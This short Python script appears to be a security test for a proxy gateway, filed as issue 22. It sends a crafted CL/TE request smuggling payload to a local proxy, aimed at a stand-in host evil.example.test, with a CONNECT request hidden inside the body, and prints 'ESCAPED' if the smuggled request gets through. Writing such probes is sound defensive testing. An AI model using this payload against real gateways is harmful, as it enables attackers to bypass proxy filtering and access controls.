# threat: CL/TE request smuggling through the gateway
# issue: 22
import socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
s.sendall(b'POST http://evil.example.test/ HTTP/1.1\r\nHost: x\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nCONNECT allowed.example.test:443 HTTP/1.1\r\nHost: x\r\n\r\n')
s.settimeout(5)
answer = b""
try:
    while True:
        b = s.recv(65536)
        if not b:
            break
        answer += b
except OSError:
    pass
text = answer.decode("latin1")
print(text.splitlines()[0] if text else "closed")
if " 200 " in text.split("\r\n")[0] or text.count("HTTP/1.") > 1:
    print("ESCAPED")
